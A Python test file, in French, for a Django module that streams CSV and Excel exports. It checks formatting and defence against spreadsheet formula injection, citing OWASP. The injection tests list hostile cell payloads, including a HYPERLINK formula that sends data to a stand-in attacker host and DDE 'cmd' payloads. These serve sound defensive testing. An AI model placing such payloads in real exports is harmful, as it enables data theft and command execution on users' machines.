import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.http import Http404

from noyau import exports
from noyau.exports import reponse_export

ENTETES = ["Nom", "Date", "Montant", "Actif", "Codes"]


def lignes(n):
    for i in range(n):
        yield [
            f"Structure {i}; « spéciale »",
            date(2026, 1, 2),
            Decimal("1234.50"),
            i % 2 == 0,
            ["33", "47"],
        ]


def test_csv_en_flux_lisible_par_un_tableur():
    reponse = reponse_export("csv", "structures", ENTETES, lignes(3))
    assert reponse.streaming
    assert reponse["Content-Disposition"] == 'attachment; filename="structures.csv"'
    contenu = b"".join(reponse.streaming_content).decode("utf-8")
    assert contenu.startswith("\ufeffNom;Date;Montant;Actif;Codes")
    assert '"Structure 0; « spéciale »";02/01/2026;1234.50;oui;33 | 47' in contenu
    assert len(contenu.strip().splitlines()) == 4


def test_xlsx_ouvrable_avec_types_conserves():
    reponse = reponse_export("xlsx", "structures", ENTETES, lignes(1000))
    classeur = openpyxl.load_workbook(io.BytesIO(b"".join(reponse.streaming_content)))
    feuille = classeur.active
    assert [c.value for c in feuille[1]] == ENTETES
    assert feuille.max_row == 1001
    assert feuille["A2"].value == "Structure 0; « spéciale »"
    assert feuille["C2"].value == 1234.5
    assert feuille["C2"].number_format == "#,##0.00"  # a number, shown with its cents
    assert feuille["E1001"].value == "33 | 47"


def test_format_inconnu():
    with pytest.raises(Http404):
        reponse_export("pdf", "x", ENTETES, lignes(1))


# --- Exports are data, never formulas (issue 15; OWASP « CSV Injection ») -------------------
# OWASP: « ensure that no cells begin with any of the following characters: Equals to (=),
# Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D) »; the full-width forms
# are read as the same by some spreadsheets.
DANGEREUX = [
    '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("https://pirate.example")',
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]
INOFFENSIFS = ["Mairie de Bordeaux", "+33 6 12 34 56 78", "-12,50", "Ça = ça", "a@b.fr"]


def _ligne_dangereuse(texte):
    return [texte, date(2026, 3, 1), Decimal("-1234.50"), -7, True, ["33", texte]]


@pytest.mark.parametrize("texte", DANGEREUX, ids=repr)
def test_csv_une_formule_est_ecrite_comme_du_texte(texte):
    reponse = reponse_export("csv", "x", ENTETES + ["Liste"], [_ligne_dangereuse(texte)])
    contenu = b"".join(reponse.streaming_content).decode("utf-8-sig")
    (ligne,) = list(csv.reader(io.StringIO(contenu), delimiter=";"))[1:]
    assert ligne[0] == "'" + texte
    assert not ligne[0].startswith(exports.DEBUT_DE_FORMULE)
    # Numbers and dates are not text: a negative amount stays a number.
    assert ligne[1:5] == ["01/03/2026", "-1234.50", "-7", "oui"]
    assert ligne[5] == "33 | " + texte  # starts with a digit: no formula


@pytest.mark.parametrize("texte", DANGEREUX, ids=repr)
def test_xlsx_une_formule_reste_une_chaine_jamais_evaluee(texte):
    reponse = reponse_export("xlsx", "x", ENTETES + ["Liste"], [_ligne_dangereuse(texte)])
    feuille = openpyxl.load_workbook(io.BytesIO(b"".join(reponse.streaming_content))).active
    cellule = feuille["A2"]
    # XlsxWriter stores CR as the OOXML escape _x000D_, which Excel reads back as CR.
    assert cellule.data_type == "s" and cellule.value.replace("_x000D_", "\r") == texte
    assert cellule.quotePrefix  # Excel keeps it text even once the cell is edited
    assert cellule.hyperlink is None
    assert feuille["B2"].is_date and feuille["B2"].value == datetime(2026, 3, 1)
    assert feuille["B2"].number_format == "dd/mm/yyyy"
    assert (feuille["C2"].data_type, feuille["C2"].value) == ("n", -1234.5)
    assert (feuille["D2"].data_type, feuille["D2"].value) == ("n", -7)


@pytest.mark.parametrize("texte", INOFFENSIFS)
def test_un_texte_sans_formule_est_inchange(texte):
    csv_ = b"".join(reponse_export("csv", "x", ["A"], [[texte]]).streaming_content)
    assert csv_.decode("utf-8-sig").splitlines()[1].strip('"') == texte
    xlsx = b"".join(reponse_export("xlsx", "x", ["A"], [[texte]]).streaming_content)
    cellule = openpyxl.load_workbook(io.BytesIO(xlsx)).active["A2"]
    assert cellule.value == texte and not cellule.quotePrefix


def test_xlsx_ni_lien_ni_nombre_tire_du_texte():
    xlsx = b"".join(
        reponse_export("xlsx", "x", ["A", "B"], [["https://exemple.fr", "0612"]]).streaming_content
    )
    feuille = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    assert feuille["A2"].hyperlink is None and feuille["A2"].value == "https://exemple.fr"
    assert feuille["B2"].data_type == "s" and feuille["B2"].value == "0612"


def test_horodatage_en_heure_de_paris():
    moment = datetime(2026, 7, 1, 10, 30, tzinfo=UTC)
    xlsx = b"".join(reponse_export("xlsx", "x", ["A"], [[moment]]).streaming_content)
    assert openpyxl.load_workbook(io.BytesIO(xlsx)).active["A2"].value == datetime(
        2026, 7, 1, 12, 30
    )
